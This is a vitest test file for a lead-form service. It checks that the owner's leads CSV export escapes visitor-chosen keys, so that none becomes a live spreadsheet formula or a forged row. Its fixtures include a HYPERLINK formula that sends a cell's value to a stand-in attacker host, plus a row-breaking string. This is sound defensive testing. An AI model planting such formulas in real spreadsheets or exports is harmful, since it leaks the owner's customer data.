import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { db, resetDb, seedForms } from '../db';
import { createMockServer } from '../node';
import { call } from '../testing';

/*
 * The owner's leads CSV with hostile input: a visitor chooses the keys of the
 * answer's `values` and of the lead's `additional_lead_data`; none of them may become a live formula or a forged row
 * in the owner's spreadsheet.
 */

const server = createMockServer();
beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
afterAll(() => server.close());
beforeEach(() => resetDb());
afterEach(() => server.resetHandlers());

const form = seedForms.published;
const visitor = { token: null };
const formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")';
const rowBreaker = 'a",b\nevil@example.com,=1+1';

/** A strict reader of RFC 4180 CSV: rows of cells, quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function csvRows(): Promise<string[][]> {
  const { status, body } = await call('GET', `/lead_forms/${form}/lead/csv/`);
  expect(status).toBe(200);
  return parseCsv(String(body));
}

/** No cell a spreadsheet would run: nothing starts with =, +, -, @. */
const liveCells = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

async function leaveLead(values: Record<string, string>, extra: Record<string, string>) {
  const started = await call('POST', `/lead_forms/${form}/session/`, { ...visitor, body: { device: 'test' } });
  const uuid = (started.body as { uuid: string }).uuid;
  const answered = await call('POST', `/lead_forms/${form}/session/${uuid}/filling/`, { ...visitor, body: { values } });
  expect(answered.status).toBe(200);
  const lead = await call('POST', `/lead_forms/${form}/session/${uuid}/lead/`, {
    ...visitor,
    body: { email: 'visitor@example.com', additional_lead_data: extra },
  });
  expect(lead.status).toBe(201);
  return db.sessions.find((s) => s._uuid === uuid)!;
}

describe('leads CSV with hostile keys', () => {
  it('keeps only the form\'s own questions, utm_* and the declared hidden parameters', async () => {
    db.forms.update(form, { hidden_params: ['ref_code'] });
    const session = await leaveLead(
      { '#Field2': 'Bikes', '#Field3': 'Families', '#Field4': '< $1k', [formula]: 'x', [rowBreaker]: 'y', '#Field1': 'a header is no question' },
      { utm_source: 'newsletter', ref_code: 'R7', [formula]: 'x', [rowBreaker]: 'y', is_admin: 'true' },
    );
    expect(Object.keys(session.filling!.values).sort()).toEqual(['#Field2', '#Field3', '#Field4']);
    expect(Object.keys(session.lead!.field_values).sort()).toEqual(['#Field2', '#Field3', '#Field4', 'ref_code', 'utm_source']);

    const rows = await csvRows();
    expect(liveCells(rows)).toEqual([]);
    // Every row as wide as the header: no value ended its cell or its row.
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([rows[0]!.length]));
    expect(rows).toHaveLength(1 + db.sessions.where((s) => s._formId === form && s.lead !== null).length);
  });

  it('neutralises hostile keys already stored (an older store, an owner\'s edit): header cells are escaped too', async () => {
    const lead = db.sessions.where((s) => s._formId === form && s.lead !== null)[0]!;
    db.sessions.update(lead.id, { lead: { ...lead.lead!, field_values: { ...lead.lead!.field_values, [formula]: 'x', [rowBreaker]: 'y' } } });
    const rows = await csvRows();
    expect(liveCells(rows)).toEqual([]);
    expect(rows[0]).toContain(`'${formula}`);
    expect(rows[0]).toContain(rowBreaker);
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([rows[0]!.length]));
    expect(rows).toHaveLength(1 + db.sessions.where((s) => s._formId === form && s.lead !== null).length);
  });
});

describe('leads CSV columns', () => {
  it('names questions by their title, adds the AI answer, and writes dates in ISO 8601', async () => {
    const session = await leaveLead({ '#Field2': 'Bikes', '#Field3': 'Families', '#Field4': '< $1k' }, {});
    const rows = await csvRows();
    const header = rows[0]!;
    expect(header.slice(0, 7)).toEqual(['Name', 'E-mail', 'Phone', 'Created at', 'What do you sell?', 'Who are your customers?', 'Budget']);
    expect(header.at(-1)).toBe('AI answer');
    expect(header.some((cell) => cell.startsWith('#Field'))).toBe(false);
    const row = rows.find((r) => r[1] === 'visitor@example.com')!;
    expect(row[4]).toBe('Bikes');
    expect(row.at(-1)).toBe(session.lead!.ai_results[0]);
    expect(row.at(-1)).toContain('Bikes');
    for (const r of rows.slice(1)) expect(r[3]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it('puts the ref in brackets when two questions share a title', async () => {
    const stored = db.forms.get(form)!;
    const aiFields = stored.fields.aiFields.map((f) => (f.fieldRef === '#Field3' && f.type === 'TextInputField' ? { ...f, title: 'What do you sell?' } : f));
    db.forms.update(form, { fields: { ...stored.fields, aiFields } });
    const header = (await csvRows())[0]!;
    expect(header).toContain('What do you sell? (#Field2)');
    expect(header).toContain('What do you sell? (#Field3)');
    expect(header).toContain('Budget');
  });
});
